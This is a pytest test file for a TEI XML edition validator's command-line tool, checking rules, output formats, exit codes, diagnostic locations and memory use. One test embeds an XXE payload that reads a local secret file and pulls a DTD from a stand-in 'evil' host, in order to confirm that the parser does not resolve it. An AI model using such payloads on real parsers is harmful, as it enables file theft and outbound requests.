"""`edition validate`: rules fire on their test documents, formats, exit codes, locations, safety."""

from __future__ import annotations

import json
import re
from pathlib import Path

import pytest
from click.testing import CliRunner
from conftest import jing
from lxml import etree

from toolchain.cli import main
from toolchain.validate import validator

RULES = Path(__file__).parent / "rules"
GOLDEN = Path(__file__).parent / "golden" / "001_545f37247de4dac3.xml"
RULE_IDS = validator().rules.rule_ids()
LINE = re.compile(
    r"^(?P<path>[^:]+):(?P<line>\d+):(?P<col>\d+): (?P<sev>error|warning): (?P<msg>.+) \[(?P<rule>[\w-]+)\]$"
)


def test_rule_ids_are_unique():
    assert len(RULE_IDS) == len(set(RULE_IDS))


@pytest.mark.parametrize("rule", RULE_IDS)
def test_rule_fires_on_its_document(rule):
    diagnostics = validator().check_file(RULES / f"{rule}.fires.xml")
    assert rule in {d.rule for d in diagnostics}


@pytest.mark.parametrize("rule", RULE_IDS)
def test_rule_quiet_on_its_valid_twin(rule):
    diagnostics = validator().check_file(RULES / f"{rule}.passes.xml")
    assert diagnostics == []


def test_rule_documents_that_pass_are_valid_tei(tei_all):
    ok, errors = jing(sorted(RULES.glob("*.passes.xml")))
    assert ok, errors


def test_valid_file_exit_0():
    result = CliRunner().invoke(main, ["validate", str(GOLDEN)])
    assert result.exit_code == 0, result.output
    assert "1 checked, 1 valid, 0 invalid" in result.output


def test_invalid_file_exit_1_one_diagnostic_a_line():
    path = RULES / "ptr-resolves.fires.xml"
    result = CliRunner().invoke(main, ["validate", str(path), str(GOLDEN)])
    assert result.exit_code == 1
    lines = [line for line in result.stdout.splitlines() if line]
    assert lines and all(LINE.match(line) for line in lines), lines
    m = LINE.match(lines[0])
    assert m["rule"] == "ptr-resolves" and m["path"] == str(path)
    source_line = path.read_text().splitlines()[int(m["line"]) - 1]
    assert source_line[int(m["col"]) - 1 :].startswith('ref="#nobody"')
    assert "#nobody" in m["msg"]


def test_folder_is_searched(tmp_path):
    (tmp_path / "a").mkdir()
    (tmp_path / "a" / "doc.xml").write_bytes(GOLDEN.read_bytes())
    result = CliRunner().invoke(main, ["validate", str(tmp_path)])
    assert result.exit_code == 0 and "1 checked" in result.output


def test_missing_file_exit_2(tmp_path):
    result = CliRunner().invoke(main, ["validate", str(tmp_path / "nope.xml")])
    assert result.exit_code == 2


def test_not_well_formed_has_line_and_column(tmp_path):
    bad = tmp_path / "bad.xml"
    bad.write_text('<TEI xmlns="http://www.tei-c.org/ns/1.0">\n  <teiHeader>\n</TEI>\n')
    result = CliRunner().invoke(main, ["validate", str(bad)])
    assert result.exit_code == 1
    m = LINE.match(result.stdout.splitlines()[0])
    assert m and m["rule"] == "xml-wellformed" and m["line"] == "3"


def test_xsd_error_points_at_the_element(tmp_path):
    text = GOLDEN.read_text().replace("<closer>", "<closer><bogus/>", 1)
    bad = tmp_path / "bad.xml"
    bad.write_text(text)
    line_no = next(i for i, line in enumerate(text.splitlines(), 1) if "<bogus/>" in line)
    result = CliRunner().invoke(main, ["validate", str(bad)])
    assert result.exit_code == 1
    m = LINE.match(result.stdout.splitlines()[0])
    assert m["rule"] == "xsd" and int(m["line"]) == line_no
    assert text.splitlines()[line_no - 1][int(m["col"]) - 1 :].startswith("<bogus/>")


def test_json_format():
    result = CliRunner().invoke(main, ["validate", "--format", "json", str(RULES / "del-rend.fires.xml")])
    data = json.loads(result.stdout)
    assert result.exit_code == 1
    assert data["valid"] == [] and {d["rule"] for d in data["diagnostics"]} >= {"del-rend"}
    assert all({"severity", "rule", "path", "line", "col", "message"} <= set(d) for d in data["diagnostics"])


def test_junit_format():
    result = CliRunner().invoke(main, ["validate", "--format", "junit", str(RULES / "del-rend.fires.xml"), str(GOLDEN)])
    root = etree.fromstring(result.stdout.encode())
    assert root.get("tests") == "2" and root.get("failures") == "1"
    assert len(root.findall(".//failure")) == 1


def test_github_format_gives_annotations():
    path = RULES / "del-rend.fires.xml"
    result = CliRunner().invoke(main, ["validate", "--format", "github", str(path)])
    lines = result.stdout.splitlines()
    assert lines and all(
        re.match(r"^::(error|warning) file=[^,]+,line=\d+(,col=\d+)?,title=[\w-]+::", x) for x in lines
    )


def test_warnings_alone_keep_exit_0():
    result = CliRunner().invoke(main, ["validate", str(RULES / "note-type-known.fires.xml")])
    assert "warning" in result.stdout
    assert result.exit_code == 0


def test_external_entities_are_not_resolved(tmp_path):
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP-SECRET-CONTENT")
    doc = (
        GOLDEN.read_text()
        .replace(
            '<?xml version="1.0" encoding="UTF-8"?>',
            f'<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE TEI [<!ENTITY leak SYSTEM "file://{secret}">'
            '<!ENTITY % remote SYSTEM "http://192.0.2.1/evil.dtd"> %remote;]>',
            1,
        )
        .replace("That is correct.", "That is &leak;.")
    )
    path = tmp_path / "xxe.xml"
    path.write_text(doc)
    result = CliRunner().invoke(main, ["validate", "--format", "json", str(path)])
    assert "TOP-SECRET-CONTENT" not in result.output
    from toolchain.tei import parse

    tree = parse(path)
    assert "TOP-SECRET-CONTENT" not in etree.tostring(tree, encoding="unicode")


def test_both_xsd_engines_agree_on_every_test_document(tmp_path):
    """libxml2 answers valid/invalid, xmlschema explains: they must judge alike."""
    from helpers import convert

    from toolchain.tei import parse

    v = validator()
    docs = [parse(p) for p in sorted(RULES.glob("*.xml"))] + [parse(GOLDEN)]
    text = GOLDEN.read_text()
    for old, new in [
        ("<closer>", "<closer><bogus/>"),
        ("<p xml:id=", '<p type="x" xml:id='),
        ("<said who", "<said type='x' who"),
        ("<sourceDesc>", "<sourceDesc><title>x</title>"),
    ]:
        assert old in text
        docs.append(parse(text.replace(old, new, 1).encode()))
    from conftest import case_files, load_case

    for path in case_files("document"):
        docs.append(parse(convert(load_case(path).input, path.stem + ".txt")[0]))
    verdicts = [(v.gate.validate(d), v.xsd.is_valid(d)) for d in docs]
    assert all(a == b for a, b in verdicts), verdicts
    assert {a for a, _ in verdicts} == {True, False}


def test_year_zero_is_no_iso_date(tmp_path):
    """XML Schema's dates have no year 0: tei_all rejects `0000-10-25`, and so must the edition's rule."""
    doc = tmp_path / "y0.xml"
    text = GOLDEN.read_text(encoding="utf-8")
    assert 'when="1962-10-25"' in text
    doc.write_text(text.replace('when="1962-10-25"', 'when="0000-10-25"', 1), encoding="utf-8")
    assert "date-iso" in {d.rule for d in validator().check_file(doc)}


def _resident_mib() -> float:
    status = Path("/proc/self/status").read_text()
    return int(re.search(r"VmRSS:\s+(\d+)", status).group(1)) / 1024


def test_checking_many_documents_in_one_process_does_not_keep_them():
    """A worker validates thousands of documents: each must be let go once it is checked (an XPath whose
    namespaces map EXSLT's sets kept every one, 25 KB a document)."""
    data = GOLDEN.read_bytes()
    check = validator()
    for _ in range(50):  # what the first checks allocate for good
        check.check_bytes(data, str(GOLDEN))
    before = _resident_mib()
    for _ in range(300):
        check.check_bytes(data, str(GOLDEN))
    assert _resident_mib() - before < 5
